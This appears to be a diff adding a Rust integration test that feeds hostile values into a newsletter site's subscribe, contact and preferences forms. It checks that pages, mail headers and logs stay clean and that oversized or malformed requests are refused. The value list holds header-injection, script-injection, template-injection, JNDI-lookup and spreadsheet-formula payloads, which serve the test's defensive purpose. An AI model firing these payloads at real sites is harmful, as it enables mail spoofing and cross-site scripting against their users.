@@ -1,0 +1,188 @@
+//! What is meant to break out of a field: harmless in page, mail header and log, or refused.
+
+use std::io::{self, Write};
+use std::sync::{Arc, Mutex, OnceLock};
+
+use tidings::delivery;
+
+use crate::support::app::{Answer, TestApp};
+
+/// In every hostile value, so that its traces can be found.
+const MARK: &str = "zq7mark";
+
+fn values() -> Vec<String> {
+    [
+        "\r",
+        "\n",
+        "\r\nBcc: evil@example.com\r\nX-Evil: yes",
+        "\0",
+        "\u{202e}",
+        "\u{2066}",
+        "\u{85}",
+        "\u{2028}",
+        "\u{1b}[2J",
+        "\u{e000}",
+        "=?utf-8?q?x?=",
+        "<script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)",
+        "{{ 7 * 7 }}",
+        "%s%n${jndi:ldap://evil}",
+        "\u{feff}\u{200b}",
+        "&#0;&#x202e;",
+        "=cmd()",
+    ]
+    .iter()
+    .map(|evil| format!("{MARK}{evil}{MARK}"))
+    .collect()
+}
+
+/// What the process logs: all that is ours, and of others what an operator sees.
+#[derive(Clone)]
+struct Log(Arc<Mutex<Vec<u8>>>);
+
+impl Write for Log {
+    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
+        self.0.lock().unwrap().write(bytes)
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+fn log() -> &'static Log {
+    static LOG: OnceLock<Log> = OnceLock::new();
+    LOG.get_or_init(|| {
+        let log = Log(Arc::default());
+        let writer = log.clone();
+        let subscriber = tracing_subscriber::fmt().with_env_filter("info,tidings=trace,actix=debug");
+        subscriber.with_ansi(false).with_writer(move || writer.clone()).init();
+        log
+    })
+}
+
+fn assert_harmless(answer: &Answer, what: &str) {
+    for evil in ["<script>alert", "\" onmouseover=\"alert", "\u{202e}", "\u{2066}", "\0", "\u{1b}", "\u{e000}"] {
+        assert!(!answer.body.contains(evil), "{what}: {evil:?} is in the page");
+    }
+    for (name, value) in &answer.headers {
+        assert!(!value.as_bytes().windows(MARK.len()).any(|part| part == MARK.as_bytes()), "{what}: header {name}");
+    }
+}
+
+const FORMS: [(&str, &[(&str, &str)]); 3] = [
+    (
+        "/subscribe",
+        &[
+            ("email", "ann@example.org"),
+            ("name", "Ann"),
+            ("newsletter", "morning-tide"),
+            ("altcha", ""),
+            ("ticket", ""),
+            ("homepage", ""),
+        ],
+    ),
+    (
+        "/contact",
+        &[
+            ("email", "ann@example.org"),
+            ("name", "Ann"),
+            ("subject", "Boats"),
+            ("message", "When?"),
+            ("newsletter", "morning-tide"),
+            ("altcha", ""),
+        ],
+    ),
+    ("/preferences", &[("email", "ann@example.org"), ("altcha", ""), ("ticket", "")]),
+];
+
+/// The form's good values with one of them replaced.
+fn with<'a>(good: &[(&'a str, &'a str)], field: &str, value: &'a str) -> Vec<(&'a str, &'a str)> {
+    good.iter().map(|(name, kept)| (*name, if *name == field { value } else { *kept })).collect()
+}
+
+#[tokio::test]
+async fn hostile_text_in_any_field_of_a_form_does_no_harm() {
+    log();
+    let app = TestApp::start().await;
+    for (path, good) in FORMS {
+        for (field, _) in good {
+            for value in values() {
+                let answer = app.post(path, &with(good, field, &value)).await;
+                let what = format!("{path} {field} {value:?}");
+                assert!((400..500).contains(&answer.status) || matches!(answer.status, 200 | 303), "{what}");
+                assert_harmless(&answer, &what);
+                if *field == "email" {
+                    assert_eq!(answer.status, 422, "{what}");
+                }
+            }
+        }
+    }
+    assert_mails_are_sound(&app).await;
+    let logged = String::from_utf8_lossy(&log().0.lock().unwrap()).into_owned();
+    let leaks: Vec<_> = logged.lines().filter(|line| line.contains(MARK) || line.contains("@example.org")).collect();
+    assert!(leaks.is_empty(), "{leaks:?}");
+}
+
+async fn assert_mails_are_sound(app: &TestApp) {
+    let mails = app.mails().await;
+    assert!(mails.iter().any(|(_, mail)| mail.header("Subject").unwrap().contains("=?utf-8?q?x?=")), "shown as typed");
+    let raw = app
+        .read(|conn| {
+            let kept = delivery::captured(conn, i64::MAX, 10_000)?;
+            kept.iter().map(|mail| delivery::captured_mail(conn, mail.id)).collect::<Result<Vec<_>, _>>()
+        })
+        .await;
+    for (to, raw) in raw.into_iter().flatten() {
+        assert!(to == "ann@example.org" || to == "desk@ledger.example", "{to}");
+        let (head, _) = raw.split_once("\r\n\r\n").unwrap();
+        for line in head.split("\r\n") {
+            assert!(!line.contains(['\r', '\n', '\0']), "{line:?}");
+            assert!(line.is_ascii() && line.len() <= 998, "{line:?}");
+            let name = line.split(':').next().unwrap().to_ascii_lowercase();
+            assert!(!matches!(name.as_str(), "bcc" | "x-evil"), "{line}");
+        }
+        assert!(!raw.replace("\r\n", "").contains(['\r', '\n', '\0', '\u{202e}']), "{raw:?}");
+    }
+}
+
+#[tokio::test]
+async fn ten_megabytes_are_refused_and_the_server_lives_on() {
+    let app = TestApp::start().await;
+    let huge = "x".repeat(10 * 1024 * 1024);
+    for (path, good) in FORMS {
+        for (field, _) in good {
+            let answer = app.form(path, &with(good, field, &huge)).send().await;
+            // A server may close before it has read all of it.
+            if let Ok(answer) = answer {
+                assert_eq!(answer.status().as_u16(), 413, "{path} {field}");
+            }
+        }
+        // Below the limit of a form, above that of every field.
+        let long = "x".repeat(200 * 1024);
+        let answer = app.post(path, &with(good, "email", &long)).await;
+        assert_eq!(answer.status, 422, "{path}");
+        assert_eq!(app.post(path, good).await.status, 303, "{path}");
+    }
+}
+
+#[tokio::test]
+async fn what_is_no_form_is_refused() {
+    let app = TestApp::start().await;
+    for (path, ..) in FORMS {
+        for (kind, body) in [
+            ("application/json", "{\"email\":\"ann@example.org\"}"),
+            ("text/plain", "email=ann@example.org"),
+            ("application/x-www-form-urlencoded", "email=a&email=b"),
+            ("application/x-www-form-urlencoded", "email=%ff%fe&subject=%00"),
+            ("application/x-www-form-urlencoded", ""),
+            ("multipart/form-data; boundary=x", "--x--"),
+        ] {
+            let request = app.request(reqwest::Method::POST, path).header("content-type", kind).body(body);
+            let answer = app.send(request).await;
+            assert!((400..500).contains(&answer.status), "{path} {kind} {body}: {}", answer.status);
+            assert!(answer.body.contains("<h1"), "{path} {kind}: {}", answer.body);
+        }
+    }
+    assert_eq!(app.mails().await, []);
+}
